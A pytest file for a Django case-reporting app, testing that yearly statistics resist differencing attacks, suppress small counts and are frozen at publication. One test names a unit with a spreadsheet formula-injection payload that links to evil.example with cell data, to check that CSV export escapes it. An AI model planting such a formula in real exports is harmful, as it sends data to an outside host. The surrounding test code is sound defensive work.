"""Figures over time: two looks at the yearly report before and after one new report learn
nothing (issue 10, finding 4: "12 → 13, 0 → '< 5'").

A year's figures are published on 1 February after it, computed once and stored suppressed;
the running year is never shown. Every test below performs the attack and compares what the
attacker gets to see.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import date, datetime, timedelta
from typing import Any

import pytest
from django.utils import timezone

from support.people import enable_totp, make_unit
from vangnet.cases import stats
from vangnet.cases.models import AdviceContact, Case, CaseCategory, YearlyFigures
from vangnet.core.audit import audit_verify
from vangnet.core.models import AuditEntry


def _case(organisation: Any, received_at: datetime, *, category: str = "pesten",
          unit: Any = None, **extra: Any) -> Case:
    case = Case.objects.create(
        organisation=organisation, reference=f"T-{Case.objects.count() + 1}", category=category,
        unit=unit, received_at=received_at, acknowledge_due_at=received_at + timedelta(days=7),
        feedback_due_at=received_at + timedelta(days=97), **extra)
    CaseCategory.objects.create(case=case, category=category)
    return case


def _at(year: int, month: int, day: int, hour: int = 12) -> datetime:
    return timezone.make_aware(datetime(year, month, day, hour))


def _csv(client: Any, organisation: Any, year: int) -> Any:
    return client.get(f"/o/{organisation.slug}/dossiers/jaarverslag.csv?jaar={year}")


def _rows(response: Any) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode()), delimiter=";"))


@pytest.fixture
def coordinator_client(client: Any, coordinator: Any) -> Any:
    enable_totp(coordinator.user)
    client.force_login(coordinator.user)
    return client


# --- the attack on the running year ---------------------------------------------------------


@pytest.mark.django_db
def test_two_downloads_in_the_running_year_around_one_new_report_learn_nothing(
        coordinator_client: Any, organisation: Any, submit: Any) -> None:
    this_year = timezone.localdate().year
    for _ in range(12):
        _case(organisation, timezone.now() - timedelta(hours=1), category="pesten")
    before_csv = _csv(coordinator_client, organisation, this_year)
    before_page = coordinator_client.get(
        f"/o/{organisation.slug}/dossiers/jaarverslag/?jaar={this_year}")

    submit(category="discriminatie")  # the one report the attacker wants to see arrive

    after_csv = _csv(coordinator_client, organisation, this_year)
    after_page = coordinator_client.get(
        f"/o/{organisation.slug}/dossiers/jaarverslag/?jaar={this_year}")
    # No figures of the running year at all: the CSV is refused with a message, both times.
    assert before_csv.status_code == after_csv.status_code == 302
    assert before_csv["Location"] == after_csv["Location"]
    assert before_page.status_code == after_page.status_code == 200
    for page in (before_page, after_page):
        html = page.content.decode()
        assert "niet gepubliceerd" in html
        assert "<svg" not in html and ">12<" not in html and ">13<" not in html
    assert _strip_messages(before_page) == _strip_messages(after_page)
    assert not YearlyFigures.objects.filter(year=this_year).exists()


def _without_csrf(response: Any) -> str:
    """The page as the reader sees it (the CSRF token is masked anew on every request)."""
    return re.sub(r"[A-Za-z0-9]{64}", "TOKEN", response.content.decode())


def _strip_messages(response: Any) -> str:
    # The redirect's info message shows on the next page only; the figures part must match.
    html = response.content.decode()
    return re.sub(r"[A-Za-z0-9]{64}", "TOKEN", html[html.index("<h1"):])


# --- the attack on a published year ----------------------------------------------------------


@pytest.mark.django_db
def test_a_published_year_is_the_same_document_after_new_reports(
        coordinator_client: Any, organisation: Any) -> None:
    year = stats.latest_published_year()
    big = make_unit(organisation, "Team Groot")
    for _ in range(12):
        _case(organisation, _at(year, 5, 1), category="pesten", unit=big)
    first = _csv(coordinator_client, organisation, year)
    assert first.status_code == 200
    by_category = ("Dossiers per onderwerp (een dossier over meerdere onderwerpen telt bij elk "
                   "ervan mee; het totaal telt elk genoemd onderwerp)")
    assert [by_category, "Pesten", "12"] in _rows(first)
    first_page = coordinator_client.get(f"/o/{organisation.slug}/dossiers/jaarverslag/?jaar={year}")

    # New facts about that year arrive after publication: a late registered case of a new
    # category, an advice-only contact dated back, and a case in the unit (12 → 13).
    _case(organisation, _at(year, 12, 30), category="discriminatie", unit=big)
    _case(organisation, _at(year, 11, 3), category="pesten", unit=big)
    AdviceContact.objects.create(organisation=organisation, contact_date=date(year, 12, 1),
                                 category="discriminatie")
    # ... and across the boundary: one in the new year.
    _case(organisation, timezone.now(), category="discriminatie", unit=big)

    second = _csv(coordinator_client, organisation, year)
    assert second.content == first.content  # byte for byte: nothing learned
    second_page = coordinator_client.get(
        f"/o/{organisation.slug}/dossiers/jaarverslag/?jaar={year}")
    assert _without_csrf(second_page) == _without_csrf(first_page)
    assert YearlyFigures.objects.filter(organisation=organisation, year=year).count() == 1


@pytest.mark.django_db
def test_across_the_period_boundary_nothing_is_shown_until_publication(organisation: Any) -> None:
    year = 2024
    for _ in range(12):
        _case(organisation, _at(year, 3, 1), category="pesten")

    def look(today: date) -> dict[str, Any] | None:
        report = stats.published_yearly_report(organisation_id=organisation.pk,
                                               organisation_name="X", year=year, today=today)
        return None if report is None else {"rows": stats.csv_rows(report)}

    assert look(date(2024, 12, 31)) is None  # the year is running
    _case(organisation, _at(year, 12, 31, 22), category="discriminatie")  # last day of the year
    assert look(date(2025, 1, 1)) is None  # over, but reports may still be registered
    assert look(date(2025, 1, 31)) is None
    _case(organisation, _at(year, 12, 20), category="discriminatie")  # registered late
    published = look(date(2025, 2, 1))
    assert published is not None
    totals = {row[1]: row[2] for row in published["rows"] if row[0] == "Totaal"}
    assert totals["Ontvangen meldingen"] == "14"
    # One more case of that year, and one of the next: the published year does not move.
    _case(organisation, _at(year, 6, 1), category="pesten")
    _case(organisation, _at(2025, 2, 2), category="discriminatie")
    assert look(date(2025, 2, 3)) == published
    assert look(date(2026, 6, 1)) == published
    # The next year is not shown before its own publication day.
    assert stats.published_yearly_report(organisation_id=organisation.pk, organisation_name="X",
                                         year=2025, today=date(2026, 1, 31)) is None


@pytest.mark.django_db
def test_only_suppressed_figures_are_stored(organisation: Any) -> None:
    year = 2024
    for _ in range(9):
        _case(organisation, _at(year, 3, 1), category="pesten")
    for _ in range(2):
        _case(organisation, _at(year, 3, 1), category="discriminatie")
    frozen = stats.freeze_yearly_figures(organisation_id=organisation.pk, year=year,
                                         today=date(2025, 3, 1))
    category = next(b for b in frozen.figures["breakdowns"] if b["slug"] == "category")
    stored = {row["key"]: row["count"] for row in category["rows"]}
    # The 2 is not in the database; neither is the 9 it could be worked out from.
    assert stored["discriminatie"] is None and stored["pesten"] is None
    assert 2 not in stored.values() and 9 not in stored.values()
    assert frozen.figures["total_cases"] == 11
    entry = AuditEntry.objects.get(action="cases.yearly_figures_frozen")
    assert entry.data == {"year": year}
    assert audit_verify() == []


@pytest.mark.django_db
def test_a_year_is_frozen_once_and_never_early(organisation: Any) -> None:
    with pytest.raises(ValueError):
        stats.freeze_yearly_figures(organisation_id=organisation.pk, year=2024,
                                    today=date(2025, 1, 31))
    first = stats.freeze_yearly_figures(organisation_id=organisation.pk, year=2024,
                                        today=date(2025, 2, 1))
    _case(organisation, _at(2024, 3, 1))
    again = stats.freeze_yearly_figures(organisation_id=organisation.pk, year=2024,
                                        today=date(2025, 2, 2))
    assert again.pk == first.pk and again.figures == first.figures


@pytest.mark.django_db
def test_the_daily_job_freezes_last_year_for_every_organisation_once(
        organisation: Any, other_organisation: Any) -> None:
    for _ in range(6):
        _case(organisation, _at(2025, 4, 1))
    stats.freeze_due_years(today=date(2026, 1, 31))  # 2025 is not due yet (2024 is)
    assert not YearlyFigures.objects.filter(year=2025).exists()
    assert stats.freeze_due_years(today=date(2026, 2, 1)) == 2
    assert stats.freeze_due_years(today=date(2026, 2, 2)) == 0
    _case(organisation, _at(2025, 4, 1))
    frozen = YearlyFigures.objects.get(organisation=organisation, year=2025)
    assert frozen.figures["total_cases"] == 6


# --- percentages in the report ---------------------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize(("answers", "shown"), [
    ([True, True, False, False], None),  # base 4: never
    ([True, True, True, False, False], None),  # "60% (van 5)": says 3 and 2
    ([True] * 5, "100%"),
    ([True] * 5 + [False] * 5, "50%"),
])
def test_satisfaction_percentages_never_reveal_a_small_number(
        coordinator_client: Any, organisation: Any, answers: list[bool],
        shown: str | None) -> None:
    year = stats.latest_published_year()
    for answer in answers:
        _case(organisation, _at(year, 2, 1), satisfaction_handled_well=answer)
    response = coordinator_client.get(f"/o/{organisation.slug}/dossiers/jaarverslag/?jaar={year}")
    html = response.content.decode()
    label = "Melders die vinden dat het goed is afgehandeld"
    row = html[html.index(label):].split("</tr>")[0]
    if shown is None:
        assert "%" not in row and "niet getoond" in row
        assert "(van" not in row
    else:
        assert shown in row
    csv_row = next(r for r in _rows(_csv(coordinator_client, organisation, year))
                   if r[1] == label)
    assert (csv_row[2] == shown) if shown else "%" not in csv_row[2]


# --- formula injection through the report ---------------------------------------------------


@pytest.mark.django_db
def test_a_unit_named_like_a_formula_stays_text_in_the_csv(
        coordinator_client: Any, organisation: Any) -> None:
    year = stats.latest_published_year()
    evil = make_unit(organisation, '=HYPERLINK("https://evil.example/?d="&C2;"Details")')
    for _ in range(6):
        _case(organisation, _at(year, 3, 1), unit=evil)
    rows = _rows(_csv(coordinator_client, organisation, year))
    unit_rows = [r for r in rows if r[1].lstrip("'").startswith("=HYPERLINK")]
    assert unit_rows and all(r[1].startswith("'=") for r in unit_rows)
    assert not any(cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r
                   if not cell.lstrip("+-").replace(",", "").isdigit())


# --- the live figure that remains: pattern signals (advisors only) ---------------------------


@pytest.mark.django_db
def test_looking_at_the_signals_again_after_one_new_report_learns_nothing(
        client: Any, organisation: Any, advisor: Any, submit: Any) -> None:
    from support.people import make_member
    from vangnet.organisations.roles import Role

    unit = make_unit(organisation, "Team Groot")
    for _ in range(6):
        make_member(organisation, Role.EMPLOYEE, unit=unit)
    for _ in range(5):
        submit(unit=unit)
    client.force_login(advisor.user)
    before = client.get(f"/o/{organisation.slug}/dossiers/signalen/")
    assert before.status_code == 200
    assert "5–9" in before.content.decode()

    submit(unit=unit)  # one more report about this unit (5 → 6)

    after = client.get(f"/o/{organisation.slug}/dossiers/signalen/")
    assert _without_csrf(after) == _without_csrf(before)
    html = after.content.decode()
    assert ">6<" not in html and ">5<" not in html


# --- Charts people can read, and no empty chart without a reason (issue 13) -------------------


def _smallest_font_px_at(svg: str, rendered_width_px: float) -> float:
    """The smallest text in the chart, in CSS pixels, when the chart is drawn that wide."""
    view_width = float(re.search(r'viewBox="0 0 ([\d.]+) ', svg).group(1))
    sizes = [float(size) for size in re.findall(r'font-size="([\d.]+)px"', svg)]
    assert sizes, "the chart has text"
    return min(sizes) * rendered_width_px / view_width


@pytest.mark.django_db
def test_chart_labels_are_at_least_9_pt_on_a_phone(organisation: Any) -> None:
    for category, count in (("pesten", 7), ("intimidatie", 6), ("discriminatie", 9)):
        for _ in range(count):
            _case(organisation, _at(2024, 3, 1), category=category)
    report = stats.compute_yearly_report(organisation_id=organisation.pk, organisation_name="X",
                                         year=2024)
    charts = [svg for svg in (stats.chart_svg(b) for b in report.breakdowns) if svg]
    assert charts
    for svg in charts:
        # 390 px phone: about 350 px for the chart (cases.css never shows it narrower than the
        # content column, nor in a third of it). 9 pt = 12 px.
        assert _smallest_font_px_at(svg, 350) >= 12


@pytest.mark.django_db
def test_an_all_hidden_breakdown_says_why_instead_of_an_empty_chart(
    organisation: Any, coordinator_client: Any,
) -> None:
    year = 2024
    for _ in range(3):  # below the threshold: every figure hidden
        _case(organisation, _at(year, 3, 1), category="pesten")
    report = stats.compute_yearly_report(organisation_id=organisation.pk, organisation_name="X",
                                         year=year)
    assert all(stats.chart_svg(b) is None for b in report.breakdowns)
    page = coordinator_client.get(f"/o/{organisation.slug}/dossiers/jaarverslag/?jaar={year}")
    html = page.content.decode()
    assert page.status_code == 200
    assert "<svg" not in html.split("<main", 1)[1]
    assert html.count('data-testid="chart-empty"') == len(report.breakdowns)
    assert "niemand herkend kan worden" in html
